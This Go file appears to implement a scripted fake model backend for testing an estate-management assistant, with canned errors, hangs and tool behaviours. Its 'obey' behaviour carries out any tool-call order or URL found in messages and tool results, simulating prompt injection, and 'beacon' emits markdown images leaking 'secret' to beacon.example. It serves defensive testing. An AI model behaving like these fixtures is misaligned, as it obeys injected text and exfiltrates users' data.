package scripted

import (
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
)

// Behaviours are those that a model's name or "#name" in a prompt asks for.
var Behaviours = []string{
	"answer", "tools", "parallel", "reasoning", "think", "slow", "hang", "401", "403", "404", "429", "429-always", "500", "500-always", "break", "malformed",
	"bad-args", "unknown-tool", "loop", "loop-varied", "empty", "obey", "no-tools", "too-long", "length", "beacon", "not-enabled", "expired", "on-demand",
}

var hashWord = regexp.MustCompile(`#([a-z0-9-]+)`)

// behaviourOf is what the prompt says, or the model's name.
func behaviourOf(q *Request) string {
	switch {
	case strings.HasPrefix(q.System, "Give the conversation a title"):
		return "title"
	case strings.HasPrefix(q.System, "You summarise the beginning"):
		return "summary"
	}
	for _, m := range hashWord.FindAllStringSubmatch(q.Prompt, -1) {
		if slices.Contains(Behaviours, m[1]) {
			return m[1]
		}
	}
	name := strings.TrimPrefix(q.Model[strings.LastIndexAny(q.Model, "./")+1:], "scripted-")
	if slices.Contains(Behaviours, name) {
		return name
	}
	return "answer"
}

// behave is what a behaviour answers. times: how often the same was asked, this one included.
func behave(name string, q *Request, times int) Reply {
	if r, ok := failure(name, times); ok {
		return r
	}
	final := len(q.Tools) == 0
	search := Call{Name: "search_estate", Args: fmt.Sprintf(`{"query":%q}`, firstWords(q.Prompt, 12))}
	switch name {
	case "title":
		return Reply{Text: "A scripted title"}
	case "summary":
		return Reply{Text: "In short: the user asked about their estate and was answered."}
	case "tools":
		if q.Step == 0 && !final {
			return Reply{Text: "Let me look.", Calls: []Call{search}}
		}
	case "parallel":
		if q.Step == 0 && !final {
			return Reply{Calls: []Call{search, {Name: "list_resources", Args: `{"group_by":"type"}`}, {Name: "list_changes", Args: `{"since":"7d"}`}}}
		}
	case "bad-args":
		if q.Step < 2 && !final {
			return Reply{Calls: []Call{{Name: "search_estate", Args: []string{`{"query": "data`, `{"wrong": 1}`}[q.Step]}}}
		}
	case "unknown-tool":
		if q.Step == 0 && !final {
			return Reply{Calls: []Call{{Name: "delete_everything", Args: `{"arn":"*"}`}}}
		}
	case "loop":
		if !final {
			return Reply{Calls: []Call{search}}
		}
	case "loop-varied":
		if !final {
			return Reply{Calls: []Call{{Name: "search_estate", Args: fmt.Sprintf(`{"query":"try %d"}`, q.Step)}}}
		}
	case "obey":
		return obey(q)
	case "no-tools":
		if !final {
			return Reply{Status: http.StatusBadRequest, ErrorType: "ValidationException", Message: "this model does not support tools (This model doesn't support tool use.)"}
		}
	}
	return say(name, q)
}

// say answers in words.
func say(name string, q *Request) Reply {
	text := "You asked: " + firstWords(q.Prompt, 30) + "."
	if names := namesIn(q.Results); len(names) > 0 {
		text += " I found " + strings.Join(names, ", ") + "."
	}
	switch name {
	case "reasoning":
		return Reply{Reasoning: "First I think about it. Then I think again. ", Text: text}
	case "think":
		return Reply{Text: "<think>First I think about it.</think>\n\n" + text}
	case "slow":
		return Reply{Text: text + strings.Repeat(" And so on.", 20), DelayMS: 250}
	case "hang":
		return Reply{Text: "It begins", Hang: true}
	case "break":
		return Reply{Text: "It begins and then", Break: true}
	case "length":
		return Reply{Text: text, Stop: "length"}
	case "beacon":
		return Reply{Text: text + " ![state](https://beacon.example/a.png?q=secret) and [more](https://beacon.example/b?q=secret)."}
	}
	return Reply{Text: text}
}

// failure is a behaviour that answers with an error, or with nothing. Those without -always do so once.
func failure(name string, times int) (Reply, bool) {
	once := times > 1
	switch name {
	case "401":
		return Reply{Status: http.StatusUnauthorized, ErrorType: "UnrecognizedClientException", Message: "The security token included in the request is invalid."}, true
	case "403":
		return Reply{Status: http.StatusForbidden, ErrorType: "AccessDeniedException", Message: "User: arn:aws:iam::111122223333:user/x is not authorized to perform: bedrock:InvokeModelWithResponseStream"}, true
	case "404":
		return Reply{Status: http.StatusNotFound, ErrorType: "ResourceNotFoundException", Message: "The provided model identifier is invalid."}, true
	case "429":
		return Reply{Status: http.StatusTooManyRequests, ErrorType: "ThrottlingException", Message: "Too many requests.", RetryAfter: "1"}, !once
	case "429-always":
		return Reply{Status: http.StatusTooManyRequests, ErrorType: "ThrottlingException", Message: "Too many requests.", RetryAfter: "3600"}, true
	case "500":
		return Reply{Status: http.StatusInternalServerError, ErrorType: "InternalServerException", Message: "Something broke."}, !once
	case "500-always":
		return Reply{Status: http.StatusInternalServerError, ErrorType: "InternalServerException", Message: "Something broke."}, true
	case "malformed":
		return Reply{Malformed: true}, true
	case "empty":
		return Reply{}, true
	case "too-long":
		return Reply{Status: http.StatusBadRequest, ErrorType: "ValidationException", Message: "prompt is too long: Input is too long for requested model (context length)."}, !once
	case "not-enabled":
		return Reply{Status: http.StatusForbidden, ErrorType: "AccessDeniedException", Message: "You don't have access to the model with the specified model ID."}, true
	case "expired":
		return Reply{Status: http.StatusForbidden, ErrorType: "ExpiredTokenException", Message: "The security token included in the request is expired"}, true
	case "on-demand":
		return Reply{Status: http.StatusBadRequest, ErrorType: "ValidationException", Message: "Invocation of model ID with on-demand throughput isn’t supported. Retry with an inference profile."}, true
	}
	return Reply{}, false
}

var (
	order  = regexp.MustCompile(`(?i)\b(?:call|run|use|invoke|execute)(?: the)?(?: tool| function)? ([a-z_][a-z0-9_.]*)(?:\(([^)]*)\))?`)
	link   = regexp.MustCompile(`https?://[^\s"'<>)\\]+`)
	naming = regexp.MustCompile(`"name":"([^"]{2,80})"`)
)

// obey does whatever it finds told in what it was given, which no honest model would.
func obey(q *Request) Reply {
	var given strings.Builder
	for _, m := range q.Messages {
		if m.Role != "assistant" {
			given.WriteString(m.Text + "\n" + strings.Join(m.Results, "\n"))
		}
	}
	told := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&", `\n`, "\n", `\"`, `"`).Replace(given.String())
	var r Reply
	if len(q.Tools) > 0 {
		if q.Step == 0 {
			r.Calls = append(r.Calls, Call{Name: "search_estate", Args: `{"query":"everything"}`})
		}
		for i, m := range order.FindAllStringSubmatch(told, 6) {
			args := strings.TrimSpace(m[2])
			if !strings.HasPrefix(args, "{") {
				args = fmt.Sprintf(`{"query":%q,"n":%d}`, args, i+q.Step)
			}
			r.Calls = append(r.Calls, Call{Name: strings.ToLower(m[1]), Args: args})
		}
	}
	r.Text = "As I was told:"
	for _, u := range link.FindAllString(told, 6) {
		r.Text += " ![x](" + u + ") [go](" + u + ")"
	}
	return r
}

// namesIn are the names of resources in results, each once.
func namesIn(results []string) []string {
	var names []string
	for _, text := range results {
		for _, m := range naming.FindAllStringSubmatch(text, 8) {
			if !slices.Contains(names, m[1]) {
				names = append(names, m[1])
			}
		}
	}
	return names
}

func firstWords(s string, n int) string {
	words := strings.Fields(s)
	return strings.Join(words[:min(n, len(words))], " ")
}
